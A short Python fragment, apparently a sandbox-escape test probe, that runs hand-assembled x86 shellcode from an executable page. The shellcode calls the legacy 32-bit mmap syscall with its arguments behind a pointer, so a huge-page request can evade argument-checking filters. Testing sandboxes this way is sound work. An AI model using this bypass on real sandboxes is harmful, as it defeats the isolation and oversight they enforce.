if os.uname().machine != "x86_64":
    blocked("only where 32-bit calls exist")
low = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40
page = mmap.mmap(-1, 4096, flags=low, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
arguments = struct.pack("I", start + 64)
# push rbx; push rsi; mov eax, 90 (mmap of old); mov ebx, arguments; xor ecx, ecx; xor edx, edx; xor esi, esi; int 0x80;
# pop rsi; pop rbx; ret
page.write(bytes.fromhex("53" "56" "b85a000000" "bb") + arguments + bytes.fromhex("31c9" "31d2" "31f6" "cd80" "5e" "5b" "c3"))
page.seek(64)
# No address, 2 MiB, PROT_READ, flags as in maps-huge-pages, no file, no offset.
page.write(struct.pack("IIIIiI", 0, 2 << 20, 1, 0x44022, -1, 0))
result = ctypes.CFUNCTYPE(ctypes.c_int)(start)()
if -4096 < result < 0:
    raise OSError(-result, os.strerror(-result))
escaped("huge pages, by arguments behind a pointer")
